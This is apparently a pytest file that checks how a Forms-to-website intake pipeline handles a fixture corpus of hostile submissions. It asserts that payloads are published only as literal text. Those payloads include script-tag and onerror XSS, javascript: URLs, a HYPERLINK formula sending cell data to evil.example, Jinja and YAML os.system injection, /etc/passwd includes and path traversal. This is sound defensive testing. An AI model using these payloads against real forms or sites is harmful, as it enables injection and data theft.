"""The hostile Forms corpus (tests/fixtures/hostile_forms/), pulled like any export.

Anyone can type anything into the forms and edit the sheet by hand. The corpus is
three Forms exports with the sample's exact headers whose every column carries
payloads: markup and scripts, `javascript:` and `data:` URLs, Markdown links and
images, raw HTML blocks, Material syntax (admonitions, `--8<--` includes of
/etc/passwd, icons), Jinja, YAML tricks, spreadsheet formulas, 50 KB pastes, NUL,
control and bidi characters, homoglyph business names, path traversal in names
that become ids, and duplicate ids. Its verified, consented rows are published,
payloads kept as literal text; a row whose only problems are optional answers is
published without them, with a warning; every other row is rejected with its reason. The
site built from it is checked in a real browser (test_browser.py) and for leaks
(test_privacy.py).
"""

from __future__ import annotations

import json
import unicodedata

import pytest

from scripts import config
from scripts.checks import schema as check
from scripts.cli import main
from scripts.intake import normalise as n
from scripts.intake import publish as intake
from scripts.model import reference, store
from scripts.site.pages import SLUG
from scripts.sources import files as sources

from .privacy import HOSTILE_FORMS, hostile_forms

# Every row of the corpus with a problem: (sheet, row) → {(column, reason code)}.
PROBLEMS = {
    ("members", 11): {("Nama Badan Usaha", "name_mixed_script")},  # Cyrillic Ѕ
    ("members", 12): {("Nama Badan Usaha", "name_mixed_script")},  # Greek Ο, Cyrillic а
    ("members", 21): {("Nama Badan Usaha", "too_long")},
    ("members", 22): {
        ("Sektor Usaha", "too_long"),
        ("Alamat Kantor", "too_long"),
        ("Kelurahan", "too_long"),
    },
    ("members", 23): {("Bentuk Badan Usaha", "too_long")},
    ("members", 24): {
        ("Nama Penanggung Jawab CSR", "too_long"),
        ("Jabatan", "too_long"),
        ("Nomor Telepon / WhatsApp", "phone_invalid"),
        ("Email Penanggung Jawab", "email_invalid"),
    },
    ("members", 25): {("NIB", "nib_invalid")},
    ("members", 26): {("Kecamatan", "kecamatan_unknown")},
    ("members", 27): {("Situs Web", "url_scheme")},  # javascript:
    ("members", 28): {("Situs Web", "url_scheme")},  # data:
    ("members", 29): {("Situs Web", "url_scheme")},  # JaVa<TAB>ScRiPt:
    ("members", 30): {("Situs Web", "url_invalid")},  # "><script>
    ("members", 31): {("Status Kepemilikan", "ownership_unknown")},
    ("members", 32): {("Status Verifikasi", "verification_unknown")},
    ("members", 33): {("Timestamp", "timestamp_invalid")},
    ("programs", 11): {("NIB Badan Usaha", "member_no_consent")},  # its member did not consent
    ("programs", 13): {("Deskripsi Program", "too_long")},
    ("programs", 14): {("Nama Program", "too_long"), ("Mitra Pelaksana", "too_long")},
    ("programs", 15): {("Bidang", "sector_unknown")},
    ("programs", 16): {("Tautan Dokumentasi", "url_scheme")},
    ("programs", 17): {("Tautan Dokumentasi", "url_scheme")},
    ("programs", 18): {("Nilai Kontribusi (Rp)", "money_invalid")},
    ("programs", 19): {("Tanggal Mulai", "date_invalid"), ("Tanggal Selesai", "date_invalid")},
    ("programs", 20): {("Kode Kebutuhan", "need_code_invalid")},
    ("programs", 21): {("Jumlah Penerima Manfaat", "integer_invalid")},
    ("programs", 22): {
        ("Status Program", "program_status_unknown"),
        ("Kode Kebutuhan", "need_code_invalid"),
    },
    ("programs", 23): {("Kecamatan Lokasi", "kecamatan_unknown")},
    ("programs", 24): {("Bentuk Kontribusi", "contribution_type_unknown")},
    ("programs", 25): {("NIB Badan Usaha", "nib_invalid"), ("Nama Badan Usaha", "member_unknown")},
    ("programs", 26): {("Tautan Dokumentasi", "url_contact")},  # wa.me/62812…
    ("programs", 27): {("Timestamp", "timestamp_invalid")},
    ("programs", 28): {("Status Verifikasi", "verification_unknown")},
    ("needs", 4): {("Kode", "duplicate_id")},
    ("needs", 5): {("Kode", "need_code_invalid")},  # ../../etc
    ("needs", 6): {("Kode", "need_code_invalid")},
    ("needs", 7): {("Deskripsi", "too_long")},
    ("needs", 8): {("Perkiraan Biaya (Rp)", "money_invalid")},
    ("needs", 9): {("Status", "need_status_unknown")},
    ("needs", 10): {("Bidang", "sector_unknown"), ("Kecamatan", "kecamatan_unknown")},
}
# The rows whose every problem is in an optional answer: published, the answer dropped,
# each problem a warning (issue 14, item 2). The other rows of PROBLEMS are rejected.
WARNED = {
    *(("members", row) for row in (22, 24, 25, 26, 27, 28, 29, 30)),
    *(("programs", row) for row in (13, 16, 17, 18, 19, 20, 21, 22, 23, 24, 26)),
    *(("needs", row) for row in (7, 8, 9, 10)),
}
COUNTS = {
    # Row 16 registers row 13's NIB again: it updates that member (issue 14, item 3).
    "members": {"accepted": 21, "updated": 1, "pending": 1, "declined": 1, "no_consent": 1},
    "programs": {"accepted": 20, "pending": 0, "declined": 1, "no_consent": 0},
    "needs": {"accepted": 6, "pending": 0, "declined": 0, "no_consent": 0},
}
MASKED_PHONE, MASKED_EMAIL = "[nomor disembunyikan]", "[email disembunyikan]"

REF = reference.of(config.load())


@pytest.fixture(scope="module")
def pulled(tmp_path_factory):
    """(data, report, seconds) of the corpus pulled from its CSV files."""
    root = tmp_path_factory.mktemp("hostile-forms")
    args = ["pull", "--source", "csv", "--data-dir", str(root / "data")]
    for key in sources.SHEET_KEYS:
        args += [f"--{key}", str(HOSTILE_FORMS / f"{key}.csv")]
    assert main([*args, "--report", str(root / "report.json")]) == 0
    assert check.problems(root / "data", store.load(root / "data"), REF) == []
    report = json.loads((root / "report.json").read_text(encoding="utf-8"))
    return store.load(root / "data"), report


def test_the_corpus_is_a_forms_export_with_payloads_in_every_column():
    corpus, sample = hostile_forms(), sources.read_sample()
    for key, table in corpus.items():
        assert table.header == sample[key].header, key  # the same questions, as Google names them
        assert (HOSTILE_FORMS / f"{key}.csv").read_bytes().count(b"\r\n") > len(table.rows)
        for i, column in enumerate(table.header):
            cells = [row[i] for row in table.rows]
            hostile = [c for c in cells if len(c) > 50_000 or set(c) & set("<>{}[]=!\x00\u202e")]
            assert hostile, (key, column)


def test_every_row_is_published_or_rejected_with_its_reason(pulled):
    _, report = pulled
    found: dict[tuple[str, int], set] = {}
    kinds: dict[str, set] = {"rejections": set(), "warnings": set()}
    for key, sheet in report["sheets"].items():
        assert sheet["read"] == len(hostile_forms()[key].rows)
        assert {k: sheet[k] for k in COUNTS[key]} == COUNTS[key]
        assert sheet["rejected"] == sum(1 for k, r in PROBLEMS if k == key and (k, r) not in WARNED)
        for kind, problems in kinds.items():
            for problem in sheet[kind]:
                assert problem["message"].strip()
                problems.add((key, problem["row"]))
                found.setdefault((key, problem["row"]), set()).add(
                    (problem["column"], problem["code"])
                )
    assert found == PROBLEMS
    assert kinds == {"rejections": set(PROBLEMS) - WARNED, "warnings": WARNED}


def test_payloads_are_published_as_typed(pulled):
    data, _ = pulled
    members = {m["id"]: m for m in data["members"]}
    skrip = members["pt-skrip-script-alert-nama-script"]
    assert skrip["name"] == 'PT Skrip <script>alert("nama")</script>'
    assert skrip["industry"] == '<img src=x onerror=alert("industri")>'
    assert skrip["contact"]["name"] == '<b onmouseover=alert("pj")>Dewi</b>'
    assert members["hyperlink-https-evil-example-x-a1-klik"]["name"] == (
        '=HYPERLINK("https://evil.example/?x="&A1,"Klik")'
    )
    jinja = members["pt-jinja-config-include-etc-passwd"]
    assert jinja["name"] == 'PT Jinja {{ config }} {% include "/etc/passwd" %}'
    assert jinja["address"].startswith("!!python/object/apply:os.system")
    # One line: a pasted HTML block cannot start a block of its own anywhere.
    tautan = members["cv-tautan-klik-javascript-alert-md-logo-https-evil-example"]
    assert tautan["address"] == '<div> <script>alert("blok")</script> </div>'
    program = next(p for p in data["programs"] if p["title"].startswith("<script>"))
    lines = program["description"].splitlines()
    assert '--8<-- "/etc/passwd"' in lines and '!!! danger "Admonisi palsu"' in lines
    (need,) = [need for need in data["needs"] if need["id"] == "HOST-01"]
    assert need["title"] == '<script>alert("kebutuhan")</script>'
    assert need["programs"] == [program["id"]]


def _strings(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from _strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from _strings(item)


def test_no_control_bidi_invisible_or_noncharacter_is_published(pulled):
    data, _ = pulled
    for value in _strings(data):
        for char in value.replace("\n", ""):
            category = unicodedata.category(char)
            # Cc controls, Cf formats (bidi overrides, zero-width), Cs surrogates, Cn
            assert category not in ("Cc", "Cf", "Cs", "Cn"), (value[:60], hex(ord(char)))


def test_ids_are_unique_slugs_whatever_the_names(pulled):
    data, _ = pulled
    for name in ("members", "programs"):
        ids = [record["id"] for record in data[name]]
        assert len(ids) == len(set(ids)), name
        assert all(SLUG.match(i) for i in ids), name
    members = {m["id"]: m["name"] for m in data["members"]}
    assert members["etc"] == "../../etc"
    assert members["windows-win-ini"] == "..\\..\\windows\\win.ini"
    # Two businesses named "PT Kembar" (two NIBs), the first renamed by its later row,
    # and one named "PT Kembar 2": the ids stay those of the first names.
    assert [members[i] for i in ("pt-kembar", "pt-kembar-2", "pt-kembar-2-2")] == [
        "PT Kembar (daftar ulang)",
        "PT Kembar",
        "PT Kembar 2",
    ]
    assert "etc-etc-passwd" in {p["id"] for p in data["programs"]}


def test_unique_ids_never_hand_out_a_taken_id():
    assert intake._unique_ids(["a", "a", "a-2", "a", "b"]) == ["a", "a-2", "a-2-2", "a-3", "b"]


def test_a_homoglyph_name_is_not_another_business(pulled):
    data, _ = pulled
    assert [m["name"] for m in data["members"] if "umurpecung" in m["name"]] == [
        "PT Swalayan Sumurpecung Jaya"
    ]


@pytest.mark.parametrize(
    ("name", "accepted"),
    [
        ("PT Ѕerang Makmur", False),  # Cyrillic Ѕ
        ("PT Sеrang Makmur", False),  # Cyrillic е inside a Latin word
        ("PT Bοra", False),  # Greek ο
        ("PT Café Ñusantara", True),  # accented Latin
        ("ＰＴ Ｍａｊｕ", True),  # fullwidth Latin
        ("ООО Ромашка", True),  # one script throughout
        ("PT Sinar Mas 金光", True),  # Han looks like no Latin letter
    ],
)
def test_business_names_mixing_look_alike_scripts_are_rejected(name, accepted):
    if accepted:
        assert n.business_name(name) == name
    else:
        with pytest.raises(n.InvalidValue) as error:
            n.business_name(name)
        assert error.value.code == "name_mixed_script"


def test_contacts_typed_into_any_answer_are_masked(pulled):
    data, _ = pulled
    (bocor,) = [m for m in data["members"] if m["id"] == "pt-bocor-kontak"]
    assert bocor["industry"] == f"Ritel (WA {MASKED_PHONE})"
    assert bocor["address"] == f"Jl. Bocor 5, hubungi Pak Joko {MASKED_PHONE} atau {MASKED_EMAIL}"
    assert bocor["kelurahan"] == f"Cipare (surel: {MASKED_EMAIL})"
    (program,) = [p for p in data["programs"] if p["member"].startswith("cv-tautan")]
    assert program["partner"] == f"Bu Siti ({MASKED_PHONE})"
    assert program["location"] == f"RT 01, hubungi {MASKED_PHONE}"
    assert program["description"] == (
        f"Hubungi Bu Ani {MASKED_PHONE} atau {MASKED_EMAIL},\nWA {MASKED_PHONE}."
    )


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("Bu Siti (0813-2222-3333)", f"Bu Siti ({MASKED_PHONE})"),  # its own ")" kept
        ("(0254) 211234", MASKED_PHONE),
        ("Jl. Veteran 12, surel budi@contoh.id", f"Jl. Veteran 12, surel {MASKED_EMAIL}"),
        ("Jl. Veteran No. 12 RT 01/02", "Jl. Veteran No. 12 RT 01/02"),
    ],
)
def test_one_line_answers_are_masked_too(raw, expected):
    assert n.text(raw) == expected


@pytest.mark.parametrize(
    ("link", "accepted"),
    [
        ("https://wa.me/6281234567890", False),
        ("https://contoh.id/kontak?email=budi@contoh.id", False),
        ("https://api.whatsapp.com/send?phone=6281234567890", False),
        ("https://www.detik.com/berita/d-7891234/judul", True),
        ("https://www.instagram.com/p/C8x0812abc/", True),
    ],
)
def test_a_link_carrying_a_contact_is_rejected(link, accepted):
    if accepted:
        assert n.url(link) == link
    else:
        with pytest.raises(n.InvalidValue) as error:
            n.url(link)
        assert error.value.code == "url_contact"
